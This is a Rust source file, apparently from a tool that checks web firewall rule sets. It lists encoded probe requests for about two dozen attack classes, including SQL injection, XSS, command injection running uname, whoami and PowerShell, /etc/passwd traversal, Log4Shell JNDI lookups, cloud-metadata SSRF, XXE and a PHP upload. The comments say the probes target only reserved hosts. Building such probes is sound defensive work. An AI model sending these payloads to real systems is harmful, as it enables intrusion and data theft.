//! The probes: one or a few requests for each class of attacks. They name nobody's host and do no harm where they pass; each
//! is of a kind that every rule set for the class finds at its lowest level.

use super::probe::Probe;
use crate::config::AttackClass::{self, *};

pub(super) const PROBES: &[Probe] = &[
    get(Sqli, "?q=1%27%20OR%20%271%27%3D%271%27%20--%20"),
    get(Sqli, "?q=-1%20UNION%20SELECT%20name%2C%20password%20FROM%20users"),
    get(Nosql, "?user%5B%24ne%5D=nobody"),
    get(Xss, "?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E"),
    get(Xss, "?q=%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E"),
    get(Lfi, "?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    get(Rfi, "?page=http%3A%2F%2F192.0.2.1%2Fprobe.txt%3F"),
    get(RceUnix, "?q=%3B%20uname%20-a"),
    get(RceUnix, "?q=%24%28whoami%29"),
    get(RceWindows, "?q=a%20%26%20cmd.exe%20%2Fc%20dir"),
    get(RceWindows, "?q=powershell.exe%20-NoProfile%20-Command%20Get-Process"),
    get(Php, "?q=%3C%3Fphp%20echo%201%3B%20%3F%3E"),
    get(Php, "?q=phpinfo%28%29"),
    get(Java, "?q=java.lang.ProcessBuilder"),
    get(Log4shell, "?q=%24%7Bjndi%3Aldap%3A%2F%2Fprobe.invalid%2Fa%7D"),
    header(Log4shell, ("User-Agent", "${jndi:ldap://probe.invalid/a}")),
    get(Nodejs, "?q=require%28%27child_process%27%29"),
    get(Nodejs, "?__proto__%5Ba%5D=b"),
    get(Ssti, "?q=%7B%7Bconfig.items%28%29%7D%7D"),
    get(Ssti, "?q=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__%28%29%7D%7D"),
    get(Ssrf, "?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    form(
        Xxe,
        "doc=%3C%21DOCTYPE%20a%20%5B%3C%21ENTITY%20b%20SYSTEM%20%22http%3A%2F%2Fprobe.invalid%2Fa%22%3E%5D%3E%3Ca%3E%26b%3B%3C%2Fa%3E",
    ),
    get(Ldap, "?user=%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    get(Crlf, "?q=a%0D%0ASet-Cookie%3A%20probe%3D1"),
    header(Scanner, ("User-Agent", "sqlmap/1.8 (https://sqlmap.org)")),
    header(Scanner, ("User-Agent", "Nikto/2.5.0")),
    get(Protocol, "?q=a%00b"),
    Probe { class: Protocol, method: "TRACE", query: "", header: None, body: None },
    get(SessionFixation, "?q=document.cookie%3D%27sessionid%3D1%3B%20domain%3D.probe.invalid%27"),
    form(
        Mail,
        "to=a%40probe.invalid%0D%0ABcc%3A%20b%40probe.invalid%0D%0AContent-Type%3A%20text%2Fhtml%0D%0A%0D%0Aa",
    ),
    form(
        Deserialisation,
        "q=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bs%3A1%3A%22b%22%3B%7D",
    ),
    Probe {
        class: Upload,
        method: "POST",
        query: "",
        header: None,
        body: Some((
            "multipart/form-data; boundary=probe",
            "--probe\r\nContent-Disposition: form-data; name=\"file\"; filename=\"probe.php\"\r\n\
             Content-Type: application/octet-stream\r\n\r\nprobe\r\n--probe--\r\n",
        )),
    },
];

/// A request without any attack: where it is blocked too, the others say little.
pub(super) const HARMLESS: Probe = get(Protocol, "?q=probe");

const fn get(class: AttackClass, query: &'static str) -> Probe {
    Probe { class, method: "GET", query, header: None, body: None }
}

const fn header(class: AttackClass, header: (&'static str, &'static str)) -> Probe {
    Probe { class, method: "GET", query: "", header: Some(header), body: None }
}

const fn form(class: AttackClass, body: &'static str) -> Probe {
    let body = Some(("application/x-www-form-urlencoded", body));
    Probe { class, method: "POST", query: "", header: None, body }
}
